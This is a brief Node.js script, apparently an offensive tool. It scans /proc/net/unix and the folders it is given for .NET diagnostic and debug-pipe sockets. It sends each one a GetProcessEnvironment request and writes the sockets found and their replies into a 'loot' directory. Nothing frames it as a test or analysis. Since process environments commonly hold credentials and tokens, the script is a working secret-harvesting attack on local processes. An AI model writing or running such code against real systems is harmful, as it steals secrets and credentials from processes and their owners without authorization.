// Asks every diagnostic port that it finds for the environment that its process was started with (GetProcessEnvironment).
const fs = require('node:fs'), net = require('node:net'), path = require('node:path');
const [loot, ...folders] = process.argv.slice(2);

const request = Buffer.alloc(20);
request.write('DOTNET_IPC_V1\0', 'latin1');
request.writeUInt16LE(20, 14);
request.writeUInt8(4, 16);
request.writeUInt8(2, 17);

const names = fs.readFileSync('/proc/net/unix', 'utf8').split('\n').map((line) => line.slice(line.indexOf('/'))).filter((name) => name.includes('dotnet-diagnostic'));
for (const folder of folders) {
  let found = [];
  try { found = fs.readdirSync(folder); } catch { continue; }
  names.push(...found.filter((name) => /^(dotnet-diagnostic|clr-debug-pipe)/.test(name)).map((name) => path.join(folder, name)));
}
for (const [index, name] of [...new Set(names)].entries()) {
  if (!folders.some((folder) => name.startsWith(folder))) continue;
  fs.writeFileSync(`${loot}/port-${index}`, name);
  const socket = net.connect(name, () => socket.end(request));
  socket.on('data', (data) => fs.appendFileSync(`${loot}/answer-${index}`, data));
  socket.on('error', () => {});
  socket.setTimeout(5000, () => socket.destroy());
}
